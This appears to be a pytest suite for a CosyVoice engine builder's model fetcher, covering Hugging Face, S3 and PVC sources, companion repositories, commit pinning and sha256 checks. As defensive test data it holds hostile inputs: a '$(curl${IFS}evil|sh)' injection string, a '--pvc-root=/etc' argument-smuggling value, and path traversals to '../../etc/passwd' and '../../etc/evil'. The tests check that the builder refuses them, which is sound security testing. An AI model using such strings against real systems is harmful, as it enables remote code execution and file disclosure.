"""Fetching from pvc://, hf:// (injected downloader) and s3:// (boto3 fake, aws stand-in)."""

from __future__ import annotations

import hashlib
from pathlib import Path
from typing import Any

import pytest

from cosyvoice_engine_builder.fetch import (
    Downloaders,
    FetchError,
    describe,
    fetch_model,
    read_fetched,
)
from cosyvoice_engine_builder.redaction import Redactor
from cosyvoice_engine_builder.request import BuildRequest, InvalidRequest, parse_model_uri
from cosyvoice_engine_builder.runner import Runner
from tests.engine_builder.conftest import KEY, Builder, make_model


def test_pvc_model_is_read_in_place_and_copied_into_the_engine(builder: Builder) -> None:
    result = builder.build()
    assert result.code == 0
    src = builder.pvc_root / "models" / "cosyvoice2"
    assert builder.calls()[0]["argv"][1] == str(src / "llm")
    assert (builder.engine_dir / "model" / "hift.pt").read_text() == "hift weights"
    assert (src / "hift.pt").exists()


def test_missing_pvc_path_is_a_permanent_error_naming_the_path(builder: Builder) -> None:
    result = builder.build(model_uri="pvc://models/nope")
    assert result.code == 2
    assert result.termination is not None
    assert result.termination["step"] == "fetch"
    assert str(builder.pvc_root / "models" / "nope") in result.termination["message"]
    assert builder.calls() == []


class FakeHub:
    def __init__(self, variant: str = "cosyvoice2") -> None:
        self.calls: list[dict[str, Any]] = []
        self.variant = variant

    def __call__(
        self, *, repo_id: str, revision: str | None, token: str | None, local_dir: str
    ) -> str:
        self.calls.append(
            {"repo_id": repo_id, "revision": revision, "token": token, "local_dir": local_dir}
        )
        make_model(Path(local_dir), self.variant)
        return local_dir


def test_hf_download_passes_repo_revision_and_token(builder: Builder) -> None:
    hub = FakeHub()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    result = builder.build(
        model_uri="hf://yuekai/cosyvoice2_llm",
        revision="abc123",
        env_extra={"HF_TOKEN": "hf_x1234"},
    )
    assert result.code == 0, result.out
    work_model = builder.cache / ".work" / KEY / "model"
    assert hub.calls == [
        {
            "repo_id": "yuekai/cosyvoice2_llm",
            "revision": "abc123",
            "token": "hf_x1234",
            "local_dir": str(work_model),
        }
    ]
    # A fake download has no resolver: the revision asked for, no resolved commit.
    assert builder.manifest()["model"] == {
        "uri": "hf://yuekai/cosyvoice2_llm",
        "revision": "abc123",
        "resolvedRevision": "",
        "companions": [],
    }
    # The downloaded copy went into the engine (hidden hub metadata dropped), scratch is gone.
    assert (builder.engine_dir / "model" / "llm" / "config.json").is_file()
    assert not (builder.engine_dir / "model" / ".cache").exists()
    assert not work_model.exists()


def test_hf_default_branch_and_anonymous_access(builder: Builder) -> None:
    hub = FakeHub()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    assert builder.build(model_uri="hf://yuekai/cosyvoice2_llm").code == 0
    assert hub.calls[0]["revision"] is None
    assert hub.calls[0]["token"] is None


def test_hf_download_is_skipped_on_resume(builder: Builder) -> None:
    hub = FakeHub()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    uri = "hf://yuekai/cosyvoice2_llm"
    assert builder.build(model_uri=uri, env_extra={"FAKE_FAIL": "convert"}).code == 1
    assert builder.build(model_uri=uri).code == 0
    assert len(hub.calls) == 1


class FakePaginator:
    def __init__(self, objects: dict[str, bytes]) -> None:
        self.objects = objects
        self.requests: list[dict[str, Any]] = []

    def paginate(self, **kwargs: Any) -> list[dict[str, Any]]:
        self.requests.append(kwargs)
        keys = sorted(k for k in self.objects if k.startswith(kwargs["Prefix"]))
        half = len(keys) // 2
        return [
            {"Contents": [{"Key": k, "Size": len(self.objects[k])} for k in part]}
            for part in (keys[:half], keys[half:])
        ]


class FakeS3:
    def __init__(self, objects: dict[str, bytes]) -> None:
        self.objects = objects
        self.paginator = FakePaginator(objects)
        self.downloads: list[str] = []

    def get_paginator(self, operation_name: str) -> FakePaginator:
        assert operation_name == "list_objects_v2"
        return self.paginator

    def download_file(self, Bucket: str, Key: str, Filename: str) -> None:
        assert Bucket == "my-bucket"
        self.downloads.append(Key)
        Path(Filename).write_bytes(self.objects[Key])


MODEL_OBJECTS = {
    "models/cv2/llm/config.json": b"{}",
    "models/cv2/llm/model.safetensors": b"w",
    "models/cv2/llm/tokenizer.json": b"{}",
    "models/cv2/cosyvoice2.yaml": b"yaml",
    "models/cv2/hift.pt": b"hift",
    "models/cv2/speech_tokenizer_v2.onnx": b"onnx",
    "models/cv2/flow.decoder.estimator.fp32.onnx": b"onnx",
    "models/cv2/campplus.onnx": b"onnx",
    "models/cv2/flow.pt": b"flow",
    "models/cv2/": b"",  # a "directory" placeholder object
    "models/cv2-other/flow.pt": b"another model sharing the prefix string",
}


def test_s3_download_with_boto3(builder: Builder) -> None:
    s3 = FakeS3(MODEL_OBJECTS)
    builder.downloaders = Downloaders(s3_client_factory=lambda: s3)
    result = builder.build(model_uri="s3://my-bucket/models/cv2")
    assert result.code == 0, result.out
    assert s3.paginator.requests == [{"Bucket": "my-bucket", "Prefix": "models/cv2/"}]
    assert "models/cv2-other/flow.pt" not in s3.downloads
    assert (builder.engine_dir / "model" / "flow.pt").read_bytes() == b"flow"
    assert builder.manifest()["model"]["uri"] == "s3://my-bucket/models/cv2"


def test_s3_key_escaping_the_target_is_refused(builder: Builder) -> None:
    s3 = FakeS3({**MODEL_OBJECTS, "models/cv2/../../etc/evil": b"x"})
    builder.downloaders = Downloaders(s3_client_factory=lambda: s3)
    result = builder.build(model_uri="s3://my-bucket/models/cv2")
    assert result.code == 2
    assert result.termination is not None and "refusing" in result.termination["message"]


def test_s3_with_the_aws_cli(builder: Builder) -> None:
    aws = builder.tmp / "bin" / "aws"
    result = builder.build(model_uri="s3://my-bucket/models/cv2", env_extra={"AWS_CLI": str(aws)})
    assert result.code == 0, result.out
    sync = builder.calls()[0]
    assert sync["tool"] == "aws"
    assert sync["argv"] == [
        "s3",
        "sync",
        "s3://my-bucket/models/cv2/",
        str(builder.cache / ".work" / KEY / "model"),
        "--no-progress",
    ]


def test_empty_s3_prefix_is_a_permanent_error(builder: Builder) -> None:
    builder.downloaders = Downloaders(s3_client_factory=lambda: FakeS3({}))
    result = builder.build(model_uri="s3://my-bucket/models/none")
    assert result.code == 2  # the listing worked: the path is wrong, a retry cannot help
    assert result.termination is not None
    assert "s3://my-bucket/models/none/ is empty" in result.termination["message"]


@pytest.mark.parametrize(
    ("uri", "scheme", "authority", "path"),
    [
        ("hf://yuekai/cosyvoice2_llm", "hf", "yuekai/cosyvoice2_llm", ""),
        ("s3://bucket-1/a/b/", "s3", "bucket-1", "a/b"),
        ("s3://bucket-1", "s3", "bucket-1", ""),
        ("pvc://my-claim/models/cv3", "pvc", "my-claim", "models/cv3"),
        ("pvc://my-claim", "pvc", "my-claim", ""),
    ],
)
def test_model_uris(uri: str, scheme: str, authority: str, path: str) -> None:
    source = parse_model_uri(uri)
    assert (source.scheme, source.authority, source.path) == (scheme, authority, path)


@pytest.mark.parametrize(
    "uri",
    [
        "yuekai/cosyvoice2_llm",
        "hf://only-org",
        "hf://a/b/c",
        "gs://bucket/x",
        "s3://UPPER/x",
        "pvc://claim/../other",
        "pvc://Claim/x",
        "pvc://claim//abs/../x",
    ],
)
def test_invalid_model_uris(uri: str) -> None:
    with pytest.raises(InvalidRequest):
        parse_model_uri(uri)


# ---- upstream's releases: the companions upstream's scripts download too ----------------

# What each Hugging Face repository holds, reduced to the files the build and the serving
# pods look at (the official repositories have no HF-format LLM; CosyVoice3's has no
# autocast estimator).
HUB_REPOS: dict[str, dict[str, str]] = {
    "FunAudioLLM/CosyVoice2-0.5B": {
        "campplus.onnx": "campplus",
        "flow.decoder.estimator.fp32.onnx": "fp32 estimator",
        "cosyvoice2.yaml": "yaml",
        "llm.pt": "pytorch llm",
        "flow.pt": "flow",
        "hift.pt": "hift",
        "speech_tokenizer_v2.onnx": "speech tokenizer",
    },
    "yuekai/cosyvoice2_llm": {
        "config.json": "{}",
        "model.safetensors": "cv2 llm",
        "tokenizer.json": "{}",
    },
    "FunAudioLLM/Fun-CosyVoice3-0.5B-2512": {
        "campplus.onnx": "campplus",
        "cosyvoice3.yaml": "yaml",
        "flow.pt": "flow",
        "hift.pt": "hift",
        "speech_tokenizer_v3.onnx": "speech tokenizer",
    },
    "yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF": {
        "config.json": "{}",
        "model.safetensors": "llm",
        "tokenizer.json": "{}",
    },
    "yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX": {
        "flow.decoder.estimator.autocast_fp16.onnx": "autocast estimator",
    },
}


class HubOfRepos:
    """A fake snapshot_download serving HUB_REPOS, or raising `errors[repo_id]`."""

    def __init__(self, errors: dict[str, Exception] | None = None) -> None:
        self.calls: list[tuple[str, str | None, str]] = []
        self.errors = errors or {}

    def __call__(
        self, *, repo_id: str, revision: str | None, token: str | None, local_dir: str
    ) -> str:
        self.calls.append((repo_id, revision, local_dir))
        if repo_id in self.errors:
            raise self.errors[repo_id]
        # The Hub resolves names case-insensitively.
        files = next(v for k, v in HUB_REPOS.items() if k.lower() == repo_id.lower())
        for name, content in files.items():
            (Path(local_dir) / name).write_text(content)
        return local_dir


def test_cosyvoice3_release_is_completed_with_its_companions(builder: Builder) -> None:
    hub = HubOfRepos()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    uri = "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512"
    result = builder.build(variant="cosyvoice3", model_uri=uri, revision="r1")
    assert result.code == 0, result.out
    model = builder.cache / ".work" / KEY / "model"
    # The official repository at the asked revision, then the companions at their default
    # branch: the LLM into llm/, the fp16 estimator export into the model's root.
    assert hub.calls == [
        ("FunAudioLLM/Fun-CosyVoice3-0.5B-2512", "r1", str(model)),
        ("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", None, str(model / "llm")),
        ("yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX", None, str(model)),
    ]
    calls = builder.calls()
    assert calls[0]["tool"] == "convert" and calls[0]["argv"][1] == str(model / "llm")
    assert calls[2]["argv"][0] == f"--onnx={model / 'flow.decoder.estimator.autocast_fp16.onnx'}"
    manifest = builder.manifest()
    assert manifest["model"]["companions"] == [
        {
            "uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF",
            "into": "llm",
            "resolvedRevision": "",
        },
        {
            "uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX",
            "into": "",
            "resolvedRevision": "",
        },
    ]
    assert "is not pinned to a commit" in result.out
    assert manifest["layout"]["tokenizerDir"] == "model/llm"
    assert (builder.engine_dir / "model" / "llm" / "model.safetensors").read_text() == "llm"
    assert "is an upstream release: also fetching" in result.out


def test_cosyvoice2_release_gets_its_hf_llm(builder: Builder) -> None:
    hub = HubOfRepos()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    # Hugging Face names are case-insensitive; so is the release table.
    result = builder.build(model_uri="hf://funaudiollm/cosyvoice2-0.5b")
    assert result.code == 0, result.out
    assert [c[0] for c in hub.calls] == ["funaudiollm/cosyvoice2-0.5b", "yuekai/cosyvoice2_llm"]
    assert (builder.engine_dir / "model" / "llm" / "model.safetensors").read_text() == "cv2 llm"


def test_dry_run_names_the_companions(builder: Builder) -> None:
    result = builder.build(
        variant="cosyvoice3", model_uri="hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512", dry_run=True
    )
    assert result.code == 0
    assert "repo_id='yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF'" in result.out
    assert "repo_id='yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX'" in result.out


def test_an_llm_only_repository_fails_at_once_pointing_at_the_release(builder: Builder) -> None:
    hub = HubOfRepos()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    result = builder.build(model_uri="hf://yuekai/cosyvoice2_llm")
    assert result.code == 2
    assert result.termination is not None and result.termination["step"] == "fetch"
    message = result.termination["message"]
    assert "flow.decoder.estimator.fp32.onnx" in message
    assert "hf://FunAudioLLM/CosyVoice2-0.5B" in message
    assert builder.calls() == []  # no GPU work


class RepositoryNotFoundError(Exception):
    """Named as huggingface_hub's, which the builder recognises by name."""


class EntryNotFoundError(Exception):
    pass


class LocalEntryNotFoundError(EntryNotFoundError):
    """What huggingface_hub raises when the Hub cannot be reached (a subclass, as there)."""


def _unreachable(cause: Exception | None) -> Exception:
    try:
        raise LocalEntryNotFoundError("An error happened while trying to locate the files")
    except LocalEntryNotFoundError as exc:
        exc.__cause__ = cause
        return exc


class _Response:
    def __init__(self, status_code: int) -> None:
        self.status_code = status_code


class HfHubHTTPError(Exception):
    def __init__(self, message: str, status_code: int) -> None:
        super().__init__(message)
        self.response = _Response(status_code)


class ClientError(Exception):
    """Shaped like botocore's: the S3 error code in response["Error"]["Code"]."""

    def __init__(self, code: str) -> None:
        super().__init__(f"An error occurred ({code}) when calling the ListObjectsV2 operation")
        self.response = {"Error": {"Code": code}}


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (RepositoryNotFoundError("404 Client Error. Repository Not Found"), 2),
        (EntryNotFoundError("404 Client Error. Entry Not Found"), 2),
        (HfHubHTTPError("401 Client Error: Unauthorized", 401), 2),
        # The Hub out of reach (as huggingface_hub reports timeouts and 5xx): worth a retry,
        # unless what it wraps is itself final.
        (_unreachable(TimeoutError("read timed out")), 1),
        (_unreachable(None), 1),
        (_unreachable(HfHubHTTPError("403 Forbidden", 403)), 2),
        (HfHubHTTPError("503 Server Error", 503), 1),
        (ConnectionError("connection reset by peer"), 1),
    ],
)
def test_hf_errors_a_retry_cannot_fix_are_permanent(
    builder: Builder, error: Exception, code: int
) -> None:
    builder.downloaders = Downloaders(
        hf_snapshot_download=HubOfRepos({"FunAudioLLM/CosyVoice2-0.5B": error})
    )
    result = builder.build(model_uri="hf://FunAudioLLM/CosyVoice2-0.5B")
    assert result.code == code
    assert result.termination is not None
    message = result.termination["message"]
    assert type(error).__name__ in message
    # Only a refusal hints at the missing token.
    assert ("no HF_TOKEN was given" in message) == (code == 2)


def test_a_failing_companion_is_named(builder: Builder) -> None:
    hub = HubOfRepos({"yuekai/cosyvoice2_llm": ConnectionError("timed out")})
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    result = builder.build(model_uri="hf://FunAudioLLM/CosyVoice2-0.5B")
    assert result.code == 1
    assert result.termination is not None
    assert "hf://yuekai/cosyvoice2_llm" in result.termination["message"]
    assert "Hugging Face Qwen2 checkpoint" in result.termination["message"]


class FailingS3(FakeS3):
    def __init__(self, error: Exception) -> None:
        super().__init__({})
        self.error = error

    def get_paginator(self, operation_name: str) -> FakePaginator:
        raise self.error


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (ClientError("NoSuchBucket"), 2),
        (ClientError("AccessDenied"), 2),
        (ClientError("SlowDown"), 1),
        (TimeoutError("read timed out"), 1),
    ],
)
def test_s3_errors_a_retry_cannot_fix_are_permanent(
    builder: Builder, error: Exception, code: int
) -> None:
    s3 = FailingS3(error)
    builder.downloaders = Downloaders(s3_client_factory=lambda: s3)
    result = builder.build(model_uri="s3://my-bucket/models/cv2")
    assert result.code == code
    assert result.termination is not None and str(error) in result.termination["message"]


# ---- supply chain (issue 21 M5): commits resolved, recorded and pinned; sha256 lists --------


def _commit(text: str) -> str:
    return hashlib.sha1(text.encode()).hexdigest()


class Resolver:
    """A fake HfApi.model_info(...).sha: the default branch and tags are at commit(repo@ref);
    a commit is itself."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, str | None]] = []

    def __call__(self, *, repo_id: str, revision: str | None, token: str | None) -> str:
        self.calls.append((repo_id, revision))
        if revision is not None and len(revision) == 40:
            return revision
        return _commit(f"{repo_id}@{revision or 'main'}")


def test_every_repository_is_fetched_at_the_commit_it_resolved_to_and_recorded(
    builder: Builder,
) -> None:
    hub, resolve = HubOfRepos(), Resolver()
    builder.downloaders = Downloaders(hf_snapshot_download=hub, hf_resolve=resolve)
    uri = "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512"
    result = builder.build(variant="cosyvoice3", model_uri=uri, revision="v1.0")
    assert result.code == 0, result.out
    official = _commit("FunAudioLLM/Fun-CosyVoice3-0.5B-2512@v1.0")
    llm = _commit("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF@main")
    onnx = _commit("yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX@main")
    # Downloaded at the resolved commits: a branch that moves meanwhile changes nothing.
    assert [(c[0], c[1]) for c in hub.calls] == [
        ("FunAudioLLM/Fun-CosyVoice3-0.5B-2512", official),
        ("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", llm),
        ("yuekai/Fun-CosyVoice3-0.5B-2512-FP16-ONNX", onnx),
    ]
    model = builder.manifest()["model"]
    assert model["revision"] == "v1.0" and model["resolvedRevision"] == official
    assert [c["resolvedRevision"] for c in model["companions"]] == [llm, onnx]
    assert all("revision" not in c for c in model["companions"])  # none pinned
    assert f"fetched at its default branch, commit {llm}" in result.out


def _request(builder: Builder, **overrides: Any) -> BuildRequest:
    values: dict[str, Any] = {
        "key": KEY,
        "cache_dir": builder.cache,
        "variant": "cosyvoice3",
        "model_uri": "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512",
        "revision": "",
        "precision": "bfloat16",
        "tensor_parallel_size": 1,
        "max_batch_size": 16,
        "max_num_tokens": 32768,
        "gpu_arch": "sm_90",
        "work_dir": None,
        "pvc_root": builder.pvc_root,
    }
    values.update(overrides)
    return BuildRequest.create(**values)


def _fetch(builder: Builder, request: BuildRequest, hub: Any, resolve: Any = None) -> list[str]:
    lines: list[str] = []
    fetch_model(
        request,
        downloaders=Downloaders(hf_snapshot_download=hub, hf_resolve=resolve),
        runner=Runner(redactor=Redactor([]), echo=lines.append),
        environ={},
        echo=lines.append,
    )
    return lines


def test_a_pinned_companion_is_fetched_at_its_commit_and_recorded_as_pinned(
    builder: Builder,
) -> None:
    pin = _commit("pinned")
    request = _request(
        builder, companion_revisions=[f"hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF={pin}"]
    )
    hub, resolve = HubOfRepos(), Resolver()
    lines = _fetch(builder, request, hub, resolve)
    assert hub.calls[1][:2] == ("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", pin)
    fetched = read_fetched(request)
    assert fetched["companions"][0] == {
        "uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF",
        "into": "llm",
        "revision": pin,
        "resolvedRevision": pin,
    }
    # Only the other one is reported unpinned.
    unpinned = [line for line in lines if "is not pinned" in line]
    assert len(unpinned) == 1 and "FP16-ONNX" in unpinned[0]
    # The describe of the dry run names the pin.
    assert f"revision={pin!r}" in describe(request, {})


@pytest.mark.parametrize(
    ("value", "words"),
    [
        ("hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF=main", "full 40-character commit"),
        ("hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", "full 40-character commit"),
        (f"s3://bucket/x={'a' * 40}", "hf://ORG/NAME=COMMIT"),
    ],
)
def test_a_companion_pin_must_be_a_full_commit(builder: Builder, value: str, words: str) -> None:
    with pytest.raises(InvalidRequest, match=words):
        _request(builder, companion_revisions=[value])


def test_a_pin_for_no_companion_of_the_release_is_refused(builder: Builder) -> None:
    request = _request(builder, companion_revisions=[f"hf://someone/else={'a' * 40}"])
    with pytest.raises(FetchError) as refused:
        _fetch(builder, request, HubOfRepos())
    assert refused.value.permanent and "not a companion repository" in str(refused.value)


@pytest.mark.parametrize(
    "revision", ["$(curl${IFS}evil|sh)", "--pvc-root=/etc", "../../x", "a\x00b", "a\x1bb", "a b"]
)
def test_hostile_revisions_are_refused_before_anything_runs(
    builder: Builder, revision: str
) -> None:
    with pytest.raises(InvalidRequest, match="--revision"):
        _request(builder, revision=revision)


def test_revisions_of_the_crds_character_set_are_accepted(builder: Builder) -> None:
    for revision in ("main", "refs/pr/1", "v1.0", "a" * 40, "3HL4kqtJ+rmSpXd3dIbr=="):
        assert _request(builder, revision=revision).revision == revision


def _sha256_list(builder: Builder, text: str) -> Path:
    path = builder.tmp / "SHA256SUMS"
    path.write_text(text)
    return path


def test_a_sha256_list_is_checked_after_the_fetch(builder: Builder) -> None:
    llm = hashlib.sha256(b"llm").hexdigest()
    onnx = hashlib.sha256(b"autocast estimator").hexdigest()
    good = f"# the LLM and the estimator\n{llm}  llm/model.safetensors\n"
    good += f"{onnx} *flow.decoder.estimator.autocast_fp16.onnx\n"
    request = _request(builder, sha256_list=_sha256_list(builder, good))
    _fetch(builder, request, HubOfRepos())


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (f"{'0' * 64}  llm/model.safetensors\n", "is not the"),
        (f"{'0' * 64}  llm/absent.bin\n", "not in the fetched model"),
        (f"{'0' * 64}  ../../etc/passwd\n", "without '..'"),
        ("llm/model.safetensors\n", "sha256sum's format"),
        ("# nothing\n", "lists no file"),
    ],
)
def test_a_sha256_list_that_does_not_match_fails_the_build_for_good(
    builder: Builder, text: str, words: str
) -> None:
    request = _request(builder, sha256_list=_sha256_list(builder, text))
    with pytest.raises(FetchError) as refused:
        _fetch(builder, request, HubOfRepos())
    assert refused.value.permanent and words in str(refused.value)


def test_the_command_line_takes_companion_pins_and_a_sha256_list(builder: Builder) -> None:
    pin = _commit("cli pin")
    llm = hashlib.sha256(b"llm").hexdigest()
    hub = HubOfRepos()
    builder.downloaders = Downloaders(hf_snapshot_download=hub)
    result = builder.build(
        variant="cosyvoice3",
        model_uri="hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512",
        companion_revision=f"hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF={pin}",
        sha256_list=_sha256_list(builder, f"{llm}  llm/model.safetensors\n"),
    )
    assert result.code == 0, result.out
    assert hub.calls[1][:2] == ("yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF", pin)
    model = builder.manifest()["model"]
    assert model["companions"][0]["revision"] == pin
    assert model["sha256List"].endswith("SHA256SUMS")
    # A list the model does not match: exit 2, the fetch step named.
    builder.cache = builder.tmp / "engines-2"
    bad = builder.build(
        variant="cosyvoice3",
        model_uri="hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512",
        sha256_list=_sha256_list(builder, f"{'0' * 64}  llm/model.safetensors\n"),
    )
    assert bad.code == 2 and bad.termination is not None
    assert bad.termination["step"] == "fetch" and "is not the" in bad.termination["message"]
    # A pin that is not a full commit: exit 2 before anything is fetched.
    typo = builder.build(
        variant="cosyvoice3",
        model_uri="hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512",
        companion_revision="hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF=main",
    )
    assert typo.code == 2 and "full 40-character commit" in typo.err + typo.out
